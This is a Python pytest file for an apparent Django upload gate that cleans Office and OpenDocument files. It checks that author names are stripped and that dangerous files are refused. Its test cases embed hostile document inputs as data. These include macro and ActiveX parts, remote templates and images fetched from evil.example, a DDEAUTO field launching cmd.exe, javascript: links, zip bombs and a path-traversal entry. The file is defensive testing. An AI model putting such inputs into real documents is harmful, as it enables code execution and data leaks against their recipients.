"""Office files at the gate: no programs, nothing fetched, nothing that swells, no authors."""

import io
import time
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from django.utils import translation

from base.refusal import Refusal
from documents import gate
from tests.documents import hostile
from tests.documents.hostile import OOXML, odf, office, relation


def admit(data: bytes, folder: Path, name: str = "Program.docx") -> gate.Admitted:
    return gate.admit(io.BytesIO(data), name=name, folder=folder)


def parts(kept: gate.Admitted) -> dict[str, bytes]:
    with zipfile.ZipFile(kept.path) as packed:
        assert packed.testzip() is None
        return {name: packed.read(name) for name in packed.namelist()}


@pytest.mark.parametrize("kind", ["docx", "xlsx", "pptx"])
def test_a_document_is_kept_without_its_author_and_the_place_of_its_pictures(kind: str, tmp_path: Path) -> None:
    data = office(kind)
    kept = admit(data + b"<script>alert(1)</script>", tmp_path, "Program.docx")
    assert (kept.kind, kept.name, kept.notes) == (kind, f"Program.{kind}", ())
    inside = parts(kept)
    assert not [name for name, content in inside.items() if b"Hanna" in content or b"Hemliga" in content]
    assert b"Barn &amp; unga" in inside["docProps/core.xml"]
    assert inside[hostile.BODY[kind][0]] == parts_of(data)[hostile.BODY[kind][0]]
    assert b"<script>" not in kept.path.read_bytes()
    assert len(list(tmp_path.iterdir())) == 1


def parts_of(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as packed:
        return {name: packed.read(name) for name in packed.namelist()}


@pytest.mark.parametrize(("kind", "ending"), [("text", "odt"), ("spreadsheet", "ods"), ("presentation", "odp")])
def test_open_documents_are_kept_too(kind: str, ending: str, tmp_path: Path) -> None:
    kept = admit(odf(kind, parts={"Pictures/1.jpg": hostile.photo()}), tmp_path)
    assert kept.kind == ending
    inside = parts(kept)
    assert next(iter(inside)) == "mimetype"
    assert not [name for name, content in inside.items() if b"Hanna" in content]


def test_a_template_on_the_authors_own_disk_is_taken_out(tmp_path: Path) -> None:
    own = relation("attachedTemplate", "file:///C:\\Users\\hanna\\Normal.dotm")
    added = {
        "word/_rels/settings.xml.rels": (
            f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{own}</Relationships>'
        ).encode(),
        "word/settings.xml": b'<w:settings xmlns:w="w" xmlns:r="r"><w:attachedTemplate r:id="rId9"/></w:settings>',
    }
    inside = parts(admit(office(parts=added), tmp_path))
    assert b"hanna" not in inside["word/_rels/settings.xml.rels"]
    assert b"attachedTemplate" not in inside["word/settings.xml"]


def test_links_to_web_pages_stay(tmp_path: Path) -> None:
    kept = admit(office(relations=relation("hyperlink", "https://good.example/")), tmp_path)
    assert b"good.example" in parts(kept)["word/_rels/document.xml.rels"]
    kept = admit(odf(content='<text:a xlink:href="https://good.example/">x</text:a>'), tmp_path)
    assert b"good.example" in parts(kept)["content.xml"]


def test_names_in_comments_and_changes_are_pointed_out(tmp_path: Path) -> None:
    assert admit(office(body='<w:ins w:author="Hanna" w:id="1"/>'), tmp_path).notes == ("names_in_changes",)
    assert admit(office(parts={"word/comments.xml": b"<c/>"}), tmp_path).notes == ("names_in_changes",)


def test_a_table_inside_a_document_is_cleaned_as_well(tmp_path: Path) -> None:
    inside = parts(admit(office("pptx", parts={"ppt/embeddings/Sheet1.xlsx": office("xlsx")}), tmp_path))
    assert b"Hanna" not in parts_of(inside["ppt/embeddings/Sheet1.xlsx"])["docProps/core.xml"]
    with pytest.raises(gate.HasPrograms):
        admit(office("pptx", parts={"ppt/embeddings/Sheet1.xlsx": macros("xlsx")}), tmp_path)


def macros(kind: str) -> bytes:
    main = {
        "docx": "application/vnd.ms-word.document.macroEnabled.main+xml",
        "xlsx": "application/vnd.ms-excel.sheet.macroEnabled.main+xml",
        "pptx": "application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml",
    }[kind]
    return office(kind, main=main)


def field(instruction: str) -> str:
    half = len(instruction) // 2
    return (
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f"<w:r><w:instrText>{instruction[:half]}</w:instrText></w:r><w:r><w:instrText>{instruction[half:]}"
        "</w:instrText></w:r>"
    )


@pytest.mark.parametrize(
    ("make", "refusal"),
    [
        (lambda: macros("docx"), gate.HasPrograms),
        (lambda: macros("xlsx"), gate.HasPrograms),
        (lambda: macros("pptx"), gate.HasPrograms),
        (lambda: office(parts={"word/vbaProject.bin": b"x"}), gate.HasPrograms),
        (lambda: office("xlsx", parts={"xl/macrosheets/sheet1.xml": b"<a/>"}), gate.HasPrograms),
        (lambda: office(parts={"word/activeX/activeX1.xml": b"<a/>"}), gate.HasPrograms),
        (lambda: odf(parts={"Basic/Standard/Module1.xml": b"<a/>"}), gate.HasPrograms),
        (lambda: odf(content='<script:event-listener script:event-name="dom:load"/>'), gate.HasPrograms),
        (lambda: office(parts={"word/embeddings/oleObject1.bin": b"x"}), gate.HasObjects),
        (lambda: office(parts={"word/embeddings/x.docx": b"MZ\x90"}), gate.HasObjects),
        (lambda: office(parts={"word/media/x.emf": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"}), gate.HasObjects),
        (lambda: odf(parts={"Object 1": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"}), gate.HasObjects),
        (lambda: office(relations=relation("attachedTemplate", "https://evil.example/t.dotm")), gate.Fetches),
        (lambda: office(relations=relation("attachedTemplate", "\\\\evil.example\\s\\t.dotm")), gate.Fetches),
        (lambda: office(relations=relation("attachedTemplate", "file://evil.example/s/t.dotm")), gate.Fetches),
        (lambda: office(relations=relation("image", "https://evil.example/x.png")), gate.Fetches),
        (lambda: office(relations=relation("oleObject", "file:///c:/x.xlsx")), gate.Fetches),
        (lambda: office(relations=relation("hyperlink", "javascript:alert(1)")), gate.Fetches),
        (lambda: office(relations=relation("hyperlink", "file://evil.example/x")), gate.Fetches),
        (lambda: office("xlsx", parts={"xl/externalLinks/externalLink1.xml": b"<a/>"}), gate.Fetches),
        (lambda: office("xlsx", parts={"xl/connections.xml": b"<a/>"}), gate.Fetches),
        (lambda: office(body=field('DDEAUTO c:\\windows\\cmd.exe "/k"')), gate.Fetches),
        (lambda: office(body=field('INCLUDEPICTURE "https://evil.example/x.png"')), gate.Fetches),
        (lambda: odf(content='<draw:image xlink:href="https://evil.example/x.png"/>'), gate.Fetches),
        (lambda: odf(content='<text:section-source xlink:href="../x.odt"/>'), gate.Fetches),
        (lambda: odf(content='<text:a xlink:href="vnd.sun.star.script:x">x</text:a>'), gate.Fetches),
        (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 5000, gate.OldOrLocked),
        (lambda: odf(parts={"META-INF/manifest.xml": b"<manifest><encryption-data/></manifest>"}), gate.Locked),
        (hostile.zip_bomb, gate.UnpacksTooMuch),
        (hostile.many_entries, gate.UnpacksTooMuch),
        (hostile.lying_sizes, gate.UnpacksTooMuch),
        (hostile.endless_directory, gate.UnpacksTooMuch),
        (lambda: office(types='<Override PartName="/x" ContentType="text/x"/></Types><!--'), gate.Damaged),
        (lambda: office(main=f"{OOXML}wordprocessingml.template.main+xml"), gate.ContentDiffers),
        (lambda: hostile.packed({"a.txt": b"x"}), gate.ContentDiffers),
        (lambda: hostile.packed({"[Content_Types].xml": b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'}), gate.Damaged),
        (lambda: office(parts={"../../etc/x": b"x"}), gate.Damaged),
        (lambda: office()[:-60], gate.Damaged),
    ],
)
def test_what_runs_fetches_hides_or_swells_is_refused_with_its_reason(
    make: Callable[[], bytes], refusal: type[Refusal], tmp_path: Path
) -> None:
    with pytest.raises(refusal) as said:
        admit(make(), tmp_path)
    for language in ("sv", "fi", "en"):
        with translation.override(language):
            assert "%(" not in str(said.value)
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize(
    "make", [hostile.zip_bomb, hostile.many_entries, hostile.lying_sizes, hostile.endless_directory]
)
def test_a_packed_bomb_is_refused_within_a_second_of_work(make: Callable[[], bytes], tmp_path: Path) -> None:
    import resource

    def spent() -> float:
        kinds = (resource.RUSAGE_SELF, resource.RUSAGE_CHILDREN)
        return sum(sum(resource.getrusage(kind)[:2]) for kind in kinds)

    data, before, started = make(), spent(), time.monotonic()
    with pytest.raises(gate.UnpacksTooMuch):
        admit(data, tmp_path)
    assert spent() - before < 1
    assert time.monotonic() - started < 10


def test_a_text_that_mentions_the_words_of_fields_passes(tmp_path: Path) -> None:
    body = field("PAGE") + "<w:r><w:t>DDE and IMPORT c: are old words</w:t></w:r>"
    assert admit(office(body=body), tmp_path).kind == "docx"
